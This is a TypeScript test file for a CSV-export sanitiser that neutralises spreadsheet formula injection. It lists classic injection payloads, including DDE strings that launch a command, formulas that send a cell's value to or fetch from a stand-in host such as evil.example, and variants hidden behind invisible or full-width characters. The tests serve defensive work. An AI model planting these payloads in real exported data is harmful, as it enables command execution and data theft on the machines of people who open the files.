import { describe, expect, test } from 'vitest';
import { csvLine } from './csv-line.ts';
import { formulaSafe } from './formula-safe.ts';

/** What was seen to run, or to be passed on to something that runs, in one spreadsheet or another. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1＋cmd',
  '＠SUM(1)',
  '%0A=1+1',
  '|calc',
] as const;

describe('formulaSafe', () => {
  test('has at least 22 payloads to meet', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(22);
  });

  test.each(payloads.map((payload) => [JSON.stringify(payload), payload]))('disarms %s', (_, payload) => {
    expect(formulaSafe(payload)).toBe(`'${payload}`);
  });

  test.each(['Noor', 'نور', 'سرنخ', '2026-11-22', '5 % off', 'a=b', "'quoted", '', 'lead_1', '۱۲', '(x)'])(
    'leaves %j as it is',
    (text) => {
      expect(formulaSafe(text)).toBe(text);
    },
  );
});

describe('csvLine', () => {
  test('quotes every text, so that no separator of any country splits it', () => {
    expect(csvLine(['a,b', 'c;=1', 'say "hi"', 'two\nlines'])).toBe(
      '"a,b","c;=1","say ""hi""","two\nlines"\r\n',
    );
  });
  test('writes numbers as numbers, and nothing for nothing', () => {
    expect(csvLine([12.5, -3, null, ''])).toBe('12.5,-3,,""\r\n');
  });
  test('lets no payload through', () => {
    for (const payload of payloads) expect(csvLine([payload])).toMatch(/^"'/u);
  });
});
